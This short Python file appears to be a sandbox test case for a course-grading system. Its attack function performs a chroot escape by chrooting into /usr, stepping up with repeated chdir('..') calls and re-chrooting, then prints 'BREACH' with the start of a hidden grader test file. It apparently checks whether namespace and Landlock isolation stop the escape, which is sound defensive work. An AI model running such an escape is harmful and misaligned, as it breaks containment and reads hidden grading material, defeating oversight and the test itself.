"""Climb out of a changed root directory.

control: none
tiers: namespaces landlock
"""

import os


def attack():
    os.chroot("/usr")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("BREACH", open("@COURSE@/tests/hidden/correlation/test_corr2d.py").read()[:80])


attack()
